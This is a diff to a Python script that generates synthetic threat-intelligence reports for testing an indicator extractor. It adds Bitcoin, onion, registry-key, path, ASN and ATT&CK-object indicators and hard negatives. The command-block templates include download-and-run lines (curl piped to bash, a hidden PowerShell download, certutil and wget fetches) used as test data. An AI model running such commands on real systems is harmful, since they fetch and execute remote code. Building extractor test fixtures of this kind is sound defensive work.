@@ -15,6 +15,7 @@ Standard library only; no network; nothing outside the repository.
 """
 
 import argparse
+import hashlib
 import ipaddress
 import json
 import os
@@ -53,6 +54,32 @@ REFERENCES = ("https://attack.mitre.org/techniques/T1566/001/", "https://nvd.nis
               "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
               "https://learn.microsoft.com/en-us/defender-endpoint/", "https://github.com/SigmaHQ/sigma",
               "https://www.first.org/cvss/v3.1/specification-document")
+
+# ATT&CK object ids (group, software, mitigation, campaign), real and active in the bundled catalogue
+# (data/attack/attack_enterprise.json); the extractor takes them only in a text that names ATT&CK.
+ATTACK_OBJECTS = ("G0016", "G0007", "G0032", "G0034", "G0046", "G0050", "G0092", "G0102", "G0119", "G0010",
+                  "S0154", "S0002", "S0363", "S0650", "S0367", "S0266", "S0331", "S0483",
+                  "M1036", "M1038", "M1040", "M1042", "M1047", "M1049", "M1050", "M1026",
+                  "C0024", "C0022", "C0017", "C0014", "C0028", "C0025", "C0027")
+# Registry hives as reports write them -> the full name the extractor gives.
+HIVES = {"HKCU": "HKEY_CURRENT_USER", "HKLM": "HKEY_LOCAL_MACHINE", "HKEY_LOCAL_MACHINE": "HKEY_LOCAL_MACHINE",
+         "HKEY_CURRENT_USER": "HKEY_CURRENT_USER", "HKCU:": "HKEY_CURRENT_USER", "HKLM:": "HKEY_LOCAL_MACHINE",
+         "hklm": "HKEY_LOCAL_MACHINE", "HKCR": "HKEY_CLASSES_ROOT"}
+REG_KEYS = ("Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{n}",
+            "Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\{n}",
+            "SYSTEM\\CurrentControlSet\\Services\\{n}svc",
+            "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
+            "Software\\Classes\\{n}file\\shell\\open\\command",
+            "Software\\{N}\\Config")
+# Paths a report names (the extractor takes Unix paths only under well-known roots or ~/).
+WIN_PATHS = ("C:\\Users\\Public\\Libraries\\{n}.exe", "C:\\ProgramData\\{N}\\{n}.dll",
+             "C:\\Windows\\Temp\\{n}.ps1", "%APPDATA%\\{N}\\{n}.exe", "%TEMP%\\{n}.bat",
+             "C:\\Program Files\\Common Files\\{N}\\{n}.dll", "\\\\FILESRV0{d}\\ADMIN$\\{n}.exe",
+             "%LOCALAPPDATA%\\Temp\\{n}.vbs")
+UNIX_PATHS = ("/tmp/.{n}/{n}", "/etc/cron.d/{n}", "/var/tmp/{n}.sh", "/usr/local/bin/{n}", "~/.ssh/authorized_keys",
+              "~/Library/LaunchAgents/com.{n}.agent.plist", "/dev/shm/.{n}", "/etc/systemd/system/{n}.service")
+# Public ASNs of hosting providers (numbers only; nothing here is scored as an address).
+ASNS = (13335, 16509, 14061, 20473, 24940, 16276, 63949, 8075, 15169, 9009, 51167, 62240, 44477, 210644)
 
 # ---------------------------------------------------------------- defang styles (what docs/extraction.md refangs)
 
@@ -163,6 +190,83 @@ def new_path(rng):
     return path % rng.randint(1, 9999) if "%d" in path else path
 
 
+B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
+B32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"
+
+
+def base58check(payload):
+    data = payload + hashlib.sha256(hashlib.sha256(payload).digest()).digest()[:4]
+    n = int.from_bytes(data, "big")
+    out = ""
+    while n:
+        n, r = divmod(n, 58)
+        out = B58[r] + out
+    return "1" * (len(data) - len(data.lstrip(b"\0"))) + out
+
+
+def bech32_polymod(values):
+    gen = (0x3B6A57B2, 0x26508E6D, 0x1EA119FA, 0x3D4233DD, 0x2A1462B3)
+    chk = 1
+    for v in values:
+        top = chk >> 25
+        chk = (chk & 0x1FFFFFF) << 5 ^ v
+        for i in range(5):
+            chk ^= gen[i] if (top >> i) & 1 else 0
+    return chk
+
+
+def segwit_address(version, program):
+    """BIP-173 (v0, Bech32) / BIP-350 (v1+, Bech32m) address for `program` on mainnet (`bc`)."""
+    acc, bits, data = 0, 0, [version]
+    for b in program:
+        acc = (acc << 8) | b
+        bits += 8
+        while bits >= 5:
+            bits -= 5
+            data.append((acc >> bits) & 31)
+    if bits:
+        data.append((acc << (5 - bits)) & 31)
+    const = 1 if version == 0 else 0x2BC830A3
+    hrp = [ord(c) >> 5 for c in "bc"] + [0] + [ord(c) & 31 for c in "bc"]
+    mod = bech32_polymod(hrp + data + [0] * 6) ^ const
+    return "bc1" + "".join(B32[d] for d in data + [(mod >> 5 * (5 - i)) & 31 for i in range(6)])
+
+
+def new_btc(rng):
+    roll = rng.random()
+    if roll < 0.35:
+        return base58check(b"\0" + rng.randbytes(20))
+    if roll < 0.55:
+        return base58check(b"\5" + rng.randbytes(20))
+    if roll < 0.85:
+        return segwit_address(0, rng.randbytes(20))
+    return segwit_address(1, rng.randbytes(32))
+
+
+def bad_checksum(rng, value, alphabet):
+    """`value` with one character of its body changed (within its alphabet): the checksum no longer holds."""
+    start = 4 if value.startswith("bc1") else 1
+    i = rng.randrange(start, len(value))
+    return value[:i] + rng.choice([c for c in alphabet if c != value[i]]) + value[i + 1:]
+
+
+def new_onion(rng):
+    """A Tor v3 name: base32(pubkey | checksum | version 3), checksum = SHA3-256(".onion checksum" | pubkey | 3)."""
+    key = rng.randbytes(32)
+    check = hashlib.sha3_256(b".onion checksum" + key + b"\x03").digest()[:2]
+    import base64
+    return base64.b32encode(key + check + b"\x03").decode("ascii").lower() + ".onion"
+
+
+def new_name(rng):
+    return rng.choice(PIECES) + rng.choice(PIECES)
+
+
+def fill(template, rng):
+    name = new_name(rng)
+    return template.format(n=name, N=name.capitalize(), d=rng.randint(1, 9))
+
+
 # ---------------------------------------------------------------- documents
 
 
@@ -213,7 +317,9 @@ def ipv4_mention(rng, doc, style=None):
         chosen = "sq_dot"  # word separators between octets are rare in reports: probes cover them
     text = refang_host(ip, chosen, rng)
     if style is None and rng.random() < 0.1:
-        text += ":" + str(rng.choice((8080, 4444, 8443, 2222, 53)))
+        port = rng.choice((8080, 4444, 8443, 2222, 53))
+        doc.need("ip_port", "%s:%d" % (ip, port))
+        text += ":%d" % port
     return text
 
 
@@ -282,12 +388,58 @@ def attack_mention(rng, doc):
     return ident
 
 
+def btc_mention(rng, doc):
+    value = new_btc(rng)
+    doc.need("btc", value)
+    return value.upper() if value.startswith("bc1") and rng.random() < 0.1 else value
+
+
+def registry_mention(rng, doc):
+    hive = rng.choice(sorted(HIVES))
+    key = fill(rng.choice(REG_KEYS), rng)
+    doc.need("registry_key", HIVES[hive] + "\\" + key)
+    return hive + "\\" + key
+
+
+def path_mention(rng, doc):
+    value = fill(rng.choice(WIN_PATHS if rng.random() < 0.6 else UNIX_PATHS), rng)
+    doc.need("file_path", value)
+    return value
+
+
+def asn_mention(rng, doc):
+    number = rng.choice(ASNS)
+    doc.need("asn", "AS%d" % number)
+    return rng.choice(("AS%d", "AS%d", "AS %d", "ASN%d", "ASN %d")) % number
+
+
+def onion_mention(rng, doc):
+    host = new_onion(rng)
+    doc.need("onion", host)
+    style = rng.choice(("plain", "plain", "sq_dot", "url"))
+    if style == "url":
+        path = rng.choice(("", "/login.php", "/blog/", "/chat/%d" % rng.randint(1, 999)))
+        doc.need("url", host + path)
+        doc.allow("onion", host)
+        return rng.choice(("http://", "hxxp://")) + refang_host(host, rng.choice(("plain", "sq_dot")), rng) + path
+    return refang_host(host, style, rng)
+
+
+def attack_object_mention(rng, doc):
+    ident = rng.choice(ATTACK_OBJECTS)
+    doc.need("attack_object", ident)
+    return ident
+
+
 MENTION = {"domain": domain_mention, "ipv4": ipv4_mention, "ipv6": ipv6_mention, "url": url_mention,
            "email": email_mention, "cve": cve_mention, "attack": attack_mention,
            "md5": lambda rng, doc: hash_mention(rng, doc, 32), "sha1": lambda rng, doc: hash_mention(rng, doc, 40),
-           "sha256": lambda rng, doc: hash_mention(rng, doc, 64)}
+           "sha256": lambda rng, doc: hash_mention(rng, doc, 64), "btc": btc_mention,
+           "registry_key": registry_mention, "file_path": path_mention, "asn": asn_mention, "onion": onion_mention,
+           "attack_object": attack_object_mention}
 TYPE_MIX = {"domain": 18, "ipv4": 15, "url": 22, "email": 6, "sha256": 11, "md5": 7, "sha1": 5, "cve": 6,
-            "attack": 6, "ipv6": 4}
+            "attack": 6, "ipv6": 4, "btc": 2, "registry_key": 2, "file_path": 3, "asn": 2, "onion": 2,
+            "attack_object": 2}
 
 SENTENCES = {
     "net": ("Beacons went to {i} roughly every five minutes.",
@@ -311,9 +463,29 @@ SENTENCES = {
     "attack": ("This step maps to ATT&CK technique {i}.",
                "Persistence used a scheduled task, see {i}.",
                "We also observed {i} during the intrusion."),
+    "btc": ("The ransom note asks for 0.8 BTC to {i} within 72 hours.",
+            "Payments to the wallet {i} were traced to an exchange.",
+            "{f} affiliates were paid through {i}."),
+    "registry_key": ("Persistence was set under {i} by the installer.",
+                     "The implant stores its configuration in {i}.",
+                     "Check {i} for unexpected values."),
+    "file_path": ("The dropper wrote {i} and executed it.",
+                  "{f} copies itself to {i} before the reboot.",
+                  "A second stage was staged at {i}."),
+    "asn": ("The C2 servers were hosted on {i}.",
+            "Most scanning came from {i}, a hosting provider.",
+            "Traffic shifted to infrastructure in {i} in March."),
+    "onion": ("The leak site {i} listed the victim two days later.",
+              "Negotiation happened on {i}.",
+              "Stolen data was published at {i}."),
+    "attack_object": ("In MITRE ATT&CK the overlap is tracked as {i}.",
+                      "The ATT&CK entry {i} describes related activity.",
+                      "See ATT&CK object {i} for the mapping."),
 }
 GROUP = {"domain": "net", "ipv4": "net", "ipv6": "net", "url": "net", "email": "email", "md5": "hash",
-         "sha1": "hash", "sha256": "hash", "cve": "cve", "attack": "attack"}
+         "sha1": "hash", "sha256": "hash", "cve": "cve", "attack": "attack", "btc": "btc",
+         "registry_key": "registry_key", "file_path": "file_path", "asn": "asn", "onion": "onion",
+         "attack_object": "attack_object"}
 PROSE = ("The activity began with a phishing wave in the second week of the month.",
          "Credentials harvested during the first stage were reused against the VPN portal.",
          "We assess with moderate confidence that the same operators ran both waves.",
@@ -337,8 +509,9 @@ NEGATIVE_SENTENCES = ("The archive held {n}.", "It drops {n} into the temp folde
                       "The script calls {n} to fetch data.", "It was tested on {n}.", "See {n} for details.")
 
 
-def negative(rng):
-    """One hard negative (text, what it is): each kind is one the extractor documents it leaves alone."""
+def negative(rng, trap=False):
+    """One hard negative (text, what it is): each kind is one the extractor documents it leaves alone. `trap`:
+    for a trap document (a text that never names ATT&CK, where ATT&CK-shaped ids must be left alone)."""
     kind = rng.randrange(13)
     if kind in (0, 1, 2):
         name = rng.choice(FILE_STEMS) + "." + rng.choice(FILE_EXTS)
@@ -367,11 +540,51 @@ def negative(rng):
         v = "{" + "-".join(parts).upper() + "}"
         return "The COM class %s is hijacked for persistence." % v, "guid " + v
     if kind == 11:
-        v = rng.choice(("C:\\Users\\Public\\%s.dll", "/tmp/.%s.py", "/usr/local/bin/%s.sh", "%%APPDATA%%\\%s.zip"))
-        v = v % rng.choice(FILE_STEMS)
-        return "The loader was written to %s." % v, "path " + v
+        return new_type_negative(rng, trap)
     v = "%d.%d.%d.%d.%d" % tuple(rng.randint(1, 250) for _ in range(5))
     return "Section %s of the manual covers it." % v, "dotted " + v
+
+
+def new_type_negative(rng, trap):
+    """A hard negative for the issue-19 types: bad checksums, prose that looks like an ASN, a lone drive, names
+    that are not v3 onions, version strings with ports, hives without a key, ATT&CK-shaped ids out of context
+    (trap documents only: the scorer extracts all labelled documents as one text, which names ATT&CK)."""
+    kind = rng.randrange(10)
+    if kind == 8 and not trap:
+        kind = 9
+    if kind == 0:
+        v = bad_checksum(rng, new_btc(rng), B58)
+        if v.startswith("bc1"):
+            v = bad_checksum(rng, new_btc(rng), B58)
+        return "The note lists %s, one character off." % v, "btc-checksum " + v
+    if kind == 1:
+        v = segwit_address(0, rng.randbytes(20))
+        v = bad_checksum(rng, v, B32)
+        return "A mistyped wallet %s was also posted." % v, "bech32-checksum " + v
+    if kind == 2:
+        return rng.choice(("Patch AS SOON AS possible.", "Act as soon as AS 1.2 lands.",
+                           "The CLASS1234 object and AS13335x are parts, as 13335 people said.")), "asn-prose"
+    if kind == 3:
+        return rng.choice(("Scan C:\\ and D: drives first.", "The ratio was 3:\\ nothing else.",
+                           "Everything under C:\\ was encrypted.")), "lone-drive"
+    if kind == 4:
+        v = rng.choice(("admin.onion", "%s.onion" % new_name(rng), "3g2upl4pq6kufc4m.onion"))
+        return "The name %s is not a v3 onion service." % v, "onion " + v
+    if kind == 5:
+        v = new_onion(rng)
+        v = bad_checksum(rng, v[:-6], "abcdefghijklmnopqrstuvwxyz234567") + ".onion"
+        return "A copy of the site at %s failed to load." % v, "onion-checksum " + v
+    if kind == 6:
+        v = "v%d.%d.%d.%d:%d" % (rng.randint(1, 9), rng.randint(0, 9), rng.randint(0, 9), rng.randint(0, 99),
+                                  rng.randint(1, 9))
+        return "Tested on %s in the lab." % v, "version-port " + v
+    if kind == 7:
+        return rng.choice(("The HKLM hive and HKCU are both touched.", "Both HKCU and HKLM were exported.")), "hive"
+    if kind == 8:
+        v = rng.choice(ATTACK_OBJECTS)
+        return "Order part %s from aisle %d." % (v, rng.randint(1, 40)), "attack-no-context " + v
+    return rng.choice(("Read/write and/or TCP/UDP over the /24 network.", "See /docs/guide for details.",
+                       "The 50/50 split held.")), "slash-prose"
 
 
 def paragraph(rng, doc):
@@ -429,6 +642,9 @@ def command_block(rng, doc):
     line = rng.choice(("powershell -w hidden -c \"iwr '{u}' -OutFile $env:TEMP\\a.exe\"",
                        "curl -fsSL {u} | bash", "certutil -urlcache -f {u} C:\\ProgramData\\u.dll",
                        "wget -qO /tmp/.k {u} && chmod +x /tmp/.k"))
+    for path in ("C:\\ProgramData\\u.dll", "/tmp/.k"):
+        if path in line:
+            doc.need("file_path", path)
     doc.write("```\n" + line.format(u=url) + "\n```\n\n")
 
 
@@ -484,7 +700,7 @@ def trap(rng):
     for _ in range(rng.randint(6, 16)):
         roll = rng.random()
         if roll < 0.75:
-            text, what = negative(rng)
+            text, what = negative(rng, trap=True)
             doc.negatives.append(what)
             doc.write(text + " ")
         elif roll < 0.85:
